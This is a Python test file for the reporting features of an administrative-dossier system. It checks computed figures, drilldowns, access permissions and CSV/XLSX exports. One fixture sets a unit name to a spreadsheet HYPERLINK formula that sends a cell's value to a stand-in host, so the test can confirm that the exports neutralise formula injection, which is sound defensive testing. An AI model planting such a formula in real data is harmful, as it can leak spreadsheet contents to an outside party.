"""Report figures worked out by hand on six dossiers moved through the services at fixed times."""

import csv
import io
from datetime import date, datetime

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from motcua.core.actors import SYSTEM
from motcua.core.working_time import TZ
from motcua.dossiers import services
from motcua.dossiers.services import result_attach
from motcua.dossiers.tests.test_clock import clock, ten_day_procedure  # noqa: F401  (a fixture)
from motcua.reports.models import COUNTERS, DailyStat, ReceptionMonthStat, ReceptionStat
from motcua.reports.rollups import rollups_rebuild
from motcua.reports.selectors import Scope, drilldown, report
from tests.builders import APPLICANT, BIRTH_FORM, pdf

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

START, END = date(2026, 3, 1), date(2026, 3, 31)
NOW = datetime(2026, 3, 20, 12, 0, tzinfo=TZ)


def at(*args):
    return datetime(*args, tzinfo=TZ)


def _file(world, procedure, channel, moment):
    online = channel == "online"
    with clock(moment):
        return services.dossier_create(
            actor=SYSTEM,
            procedure=procedure,
            channel=channel,
            receiving_unit=world.org.centre if online else world.org.branch1,
            commune=world.commune,
            applicant=dict(APPLICANT),
            form_data=dict(BIRTH_FORM) if online else None,
        )


def _act(action, dossier, moment, **kwargs):
    with clock(moment):
        return services.ACTIONS[action](actor=SYSTEM, dossier=dossier, **kwargs)


def _received(world, procedure, channel):
    """Filed and received on Monday 2 March 2026 at 09:00 (appointment: 16 March, 09:00), at the specialist."""
    d = _act("receive", _file(world, procedure, channel, at(2026, 3, 2, 8, 30)), at(2026, 3, 2, 9, 0))
    assert d.due_at == at(2026, 3, 16, 9, 0)
    return _act("forward", d, at(2026, 3, 2, 9, 30))


def _result(dossier, moment):
    dossier = _act("approve", dossier, at(2026, 3, 2, 10, 0))
    with clock(at(2026, 3, 2, 10, 5)):
        result_attach(actor=SYSTEM, dossier=dossier, uploaded=pdf())
    dossier.refresh_from_db()
    return _act("issue_result", dossier, moment)


@pytest.fixture
def data(world, ten_day_procedure):  # noqa: F811
    p = ten_day_procedure
    d = {
        "A": _result(_received(world, p, "counter"), at(2026, 3, 3, 10, 0)),  # early, 25 h
        "B": _result(_received(world, p, "online"), at(2026, 3, 16, 8, 0)),  # on time, 14 days − 1 h
        "C": _result(_received(world, p, "counter"), at(2026, 3, 17, 9, 0)),  # late, 15 days
        "D": _act("request_supplement", _received(world, p, "online"), at(2026, 3, 4, 9, 0), items=["x"]),
        "E": _act("refuse_intake", _file(world, p, "counter", at(2026, 3, 2, 8, 30)), at(2026, 3, 2, 9), reasons=["x"]),
        "F": _received(world, p, "online"),  # left running past its appointment
    }
    assert services.dossiers_flag_overdue(actor=SYSTEM, now=at(2026, 3, 16, 10, 0)) == 1
    return {"world": world, "procedure": p, **d}


def _rows(by="receiving", **kwargs):
    return {r.key: r for r in report(start=START, end=END, by=by, now=NOW, **kwargs)}


def test_figures_by_receiving_unit(data):
    org = data["world"].org
    rows = _rows()
    assert set(rows) == {str(org.branch1.pk), str(org.centre.pk)}
    branch, centre = rows[str(org.branch1.pk)], rows[str(org.centre.pk)]
    # Branch 1: A (early), C (late), E (not accepted); all at the counter.
    expected_branch = dict.fromkeys((*COUNTERS, "in_progress", "overdue"), 0) | {
        "received": 2,
        "processed": 2,
        "early": 1,
        "late": 1,
        "not_accepted": 1,
        "processing_seconds": 25 * 3600 + 15 * 86400,
        "allowed_seconds": 2 * 14 * 86400,  # receipt 2 March 09:00, appointment 16 March 09:00
        "issued": 2,
        "results_to_store": 2,  # the applicant has a citizen ID, so results reach the data store
    }
    assert branch.figures == expected_branch
    assert (branch.in_time_rate, branch.online_share, branch.average_days) == (50.0, 0.0, 8.0)
    # The centre: B (on time), D (supplement requested), F (flagged overdue); all online.
    expected_centre = dict.fromkeys((*COUNTERS, "in_progress", "overdue"), 0) | {
        "received": 3,
        "online_received": 3,
        "processed": 1,
        "on_time": 1,
        "supplements": 1,
        "overdue_flagged": 1,
        "processing_seconds": 14 * 86400 - 3600,
        "allowed_seconds": 14 * 86400,
        "issued": 1,
        "results_to_store": 1,
        "in_progress": 2,  # D and F
        "overdue": 1,  # F (D's clock is paused)
    }
    assert centre.figures == expected_centre
    assert (centre.in_time_rate, centre.online_share, centre.average_days) == (100.0, 100.0, 14.0)


def test_other_dimensions_and_filters(data):
    committee = data["world"].org.committee
    handling = _rows("handling")
    assert list(handling) == [str(committee.pk)]
    assert handling[str(committee.pk)].figures["received"] == 5
    channels = _rows("channel")
    assert channels["counter"].figures["received"] == 2 and channels["online"].figures["received"] == 3
    assert list(_rows("procedure")) == [str(data["procedure"].pk)]
    assert list(_rows("commune")) == [str(data["world"].commune.pk)]
    assert list(_rows(channel="online")) == [str(data["world"].org.centre.pk)]
    # A period before everything: only the running dossiers remain.
    early = {r.key: r for r in report(start=date(2026, 1, 1), end=date(2026, 1, 31), now=NOW)}
    assert early[str(data["world"].org.centre.pk)].figures["received"] == 0
    # March 3 to 16: A's and B's results, F's flag; no receipts.
    mid = report(start=date(2026, 3, 3), end=date(2026, 3, 16), by="channel", now=NOW)
    assert {r.key: (r.figures["received"], r.figures["processed"]) for r in mid} == {
        "counter": (0, 1),
        "online": (0, 1),
    }


def _codes(metric, key, by="receiving"):
    return {d.code for d in drilldown(metric=metric, by=by, key=key, start=START, end=END, now=NOW)}


def test_drilldowns(data):
    org = data["world"].org
    branch, centre = str(org.branch1.pk), str(org.centre.pk)
    code = {k: data[k].code for k in "ABCDEF"}
    assert _codes("received", branch) == {code["A"], code["C"]}
    assert _codes("received", centre) == _codes("online_received", centre) == {code["B"], code["D"], code["F"]}
    assert _codes("processed", branch) == {code["A"], code["C"]}
    assert _codes("early", branch) == {code["A"]}
    assert _codes("late", branch) == {code["C"]}
    assert _codes("on_time", centre) == {code["B"]}
    assert _codes("not_accepted", branch) == {code["E"]}
    assert _codes("supplements", centre) == {code["D"]}
    assert _codes("overdue_flagged", centre) == {code["F"]}
    assert _codes("in_progress", centre) == {code["D"], code["F"]}
    assert _codes("overdue", centre) == {code["F"]}
    assert _codes("late", "counter", by="channel") == {code["C"]}
    assert _codes("received", "", by="channel") == {code[k] for k in "ABCDF"}  # the total row
    assert _codes("received", str(org.committee.pk), by="handling") == {code[k] for k in "ABCDF"}


def test_rebuild_equals_incremental(data):
    def snapshot():
        detailed = sorted(DailyStat.objects.values_list("day", "receiving_unit", "handling_unit", "channel", *COUNTERS))
        by_reception = sorted(
            ReceptionStat.objects.values_list("day", "receiving_unit", "procedure", "channel", *COUNTERS)
        )
        months = sorted(
            ReceptionMonthStat.objects.values_list("month", "receiving_unit", "procedure", "channel", *COUNTERS)
        )
        return detailed, by_reception, months

    incremental = snapshot()
    assert all(incremental)
    rollups_rebuild()
    assert snapshot() == incremental
    rollups_rebuild(since=date(2026, 3, 10))
    assert snapshot() == incremental
    DailyStat.objects.all().delete()
    from django.core.management import call_command

    call_command("reports", "rebuild", stdout=io.StringIO())
    assert snapshot() == incremental


def test_scope_limits_rows(data):
    org = data["world"].org
    leader_scope = Scope(handling=frozenset({org.justice.pk}))
    assert report(start=START, end=END, units=leader_scope, now=NOW) == []
    director_scope = Scope(receiving=frozenset({org.branch1.pk}))
    assert list(_rows(units=director_scope)) == [str(org.branch1.pk)]


# -- pages ---------------------------------------------------------------------------------------------------
QUERY = "?from=2026-03-01&to=2026-03-31&by=receiving"


@pytest.mark.parametrize("who", ["director", "lead"])
def test_staff_with_reports_may_open_the_page(client, data, who):
    client.force_login(data["world"].person(who))
    response = client.get("/reports/" + QUERY)
    assert response.status_code == 200
    rows = {r.key for r in response.context["rows"]}
    org = data["world"].org
    assert rows == {str(org.branch1.pk), str(org.centre.pk)}  # all six were received in the family
    assert b"/reports/dossiers/?" in response.content


def test_leader_elsewhere_sees_nothing(client, data):
    client.force_login(data["world"].lead_justice)
    response = client.get("/reports/" + QUERY)
    assert response.status_code == 200 and response.context["rows"] == []
    response = client.get(f"/reports/dossiers/{QUERY}&metric=received&key=")
    assert response.status_code == 200 and list(response.context["dossiers"]) == []


@pytest.mark.parametrize("who", ["officer_b1", "spec", "applicant", "agent", "admin"])
def test_others_are_refused(client, data, who):
    client.force_login(data["world"].person(who))
    for url in (
        "/reports/",
        "/reports/dossiers/?metric=received",
        "/reports/export.csv",
        "/reports/export.xlsx",
        "/reports/dashboard/",
        "/reports/indicators/",
        "/reports/waiting/?step=x",
    ):
        assert client.get(url).status_code == 403


def test_anonymous_is_sent_to_login(client, db):
    for url in ("/reports/", "/reports/dashboard/", "/reports/indicators/", "/reports/waiting/?step=x"):
        assert client.get(url).status_code == 302


def test_drilldown_page(client, data):
    client.force_login(data["world"].director)
    key = data["world"].org.branch1.pk
    response = client.get(f"/reports/dossiers/{QUERY}&metric=late&key={key}")
    assert response.status_code == 200
    assert [d.code for d in response.context["dossiers"]] == [data["C"].code]
    assert data["C"].code.encode() in response.content
    assert client.get(f"/reports/dossiers/{QUERY}&metric=nonsense").status_code == 404


def test_csv_export(client, data):
    client.force_login(data["world"].director)
    response = client.get("/reports/export.csv" + QUERY)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, *body = lines
    assert len(header) == 22 and all(len(line) == 22 for line in body)
    by_label = {line[0]: line for line in body}
    branch = by_label[data["world"].org.branch1.name]
    assert branch[1:4] == ["2", "0", "2"] and branch[18:] == ["50.0", "0.0", "8.0", ""]
    total = body[-1]
    assert total[1] == "5" and total[3] == "3"


def test_xlsx_export_is_a_report(client, data):
    """Title, period, unit and generation time above a bold frozen header; counts with thousands separators, rates
    as percentages; a Vietnamese sheet name; the figures of the CSV."""
    client.force_login(data["world"].director)
    with time_machine.travel(datetime(2026, 4, 2, 8, 15, tzinfo=TZ), tick=False):
        response = client.get("/reports/export.xlsx" + QUERY)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Báo cáo theo đơn vị tiếp nhận"
    assert sheet["A1"].value == "Báo cáo tình hình giải quyết hồ sơ thủ tục hành chính" and sheet["A1"].font.b
    lines = [sheet.cell(row=r, column=1).value for r in range(2, 6)]
    assert lines == [
        "Kỳ báo cáo: từ ngày 01/03/2026 đến ngày 31/03/2026",
        f"Đơn vị: {data['world'].org.centre.name}",
        "Tổng hợp theo: Đơn vị tiếp nhận",
        "Thời điểm lập: 08:15 ngày 02/04/2026",
    ]
    header_row = 7
    header = [cell.value for cell in sheet[header_row]]
    assert header[:2] == ["Đơn vị tiếp nhận", "Đã tiếp nhận"] and header[18] == "Tỷ lệ đúng hạn (%)"
    assert all(cell.font.b for cell in sheet[header_row])
    assert sheet.freeze_panes == f"B{header_row + 1}"
    values = list(sheet.iter_rows(min_row=header_row + 1, values_only=True))
    assert len(values) == 3  # two units, total
    centre = next(v for v in values if v[0] == data["world"].org.centre.name)
    assert centre[1:4] == (3, 3, 1) and centre[18:] == (1.0, 1.0, 14.0, None)
    assert values[-1][0] == "Tổng cộng" and sheet.cell(row=sheet.max_row, column=1).font.b
    centre_row = next(row for row in sheet.iter_rows(min_row=header_row + 1) if row[0].value == centre[0])
    assert centre_row[1].number_format == "#,##0"
    assert centre_row[18].number_format == "0.0%" and centre_row[20].number_format == "#,##0.0"
    assert sheet.column_dimensions["A"].width >= len(data["world"].org.centre.name)


@pytest.fixture
def formula_named_branch(data):
    branch = data["world"].org.branch1
    branch.name = '=HYPERLINK("http://x.example/?d="&B2,"Xem")'
    branch.save()
    return branch.name


def test_exports_write_a_formula_like_unit_name_as_text(client, data, formula_named_branch):
    client.force_login(data["world"].director)
    response = client.get("/reports/export.csv" + QUERY)
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["'" + formula_named_branch, "2", "0", "2"] == next(line for line in lines if "Xem" in line[0])[:4]
    response = client.get("/reports/export.xlsx" + QUERY)
    sheet = load_workbook(io.BytesIO(response.content)).active
    [label] = [row[0] for row in sheet.iter_rows() if "Xem" in str(row[0].value)]
    assert label.data_type == "s" and label.value == "'" + formula_named_branch
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert [cell.value for cell in label.parent[label.row][1:4]] == [2, 0, 2]  # numbers stay numbers


def test_report_page_query_count_is_constant(client, data):
    client.force_login(data["world"].director)

    def count():
        with CaptureQueriesContext(connection) as queries:
            assert client.get("/reports/" + QUERY + "&by=channel").status_code == 200
        return len(queries)

    before = count()
    world, p = data["world"], data["procedure"]
    with clock(at(2026, 3, 5, 9, 0)):
        other = services.dossier_create(
            actor=SYSTEM,
            procedure=p,
            channel="counter",
            receiving_unit=world.org.branch2,
            commune=world.commune,
            applicant=dict(APPLICANT),
        )
        services.dossier_receive(actor=SYSTEM, dossier=other)
    for by in ("receiving", "channel"):
        with CaptureQueriesContext(connection) as queries:
            client.get("/reports/" + QUERY.replace("by=receiving", f"by={by}"))
        assert len(queries) == before
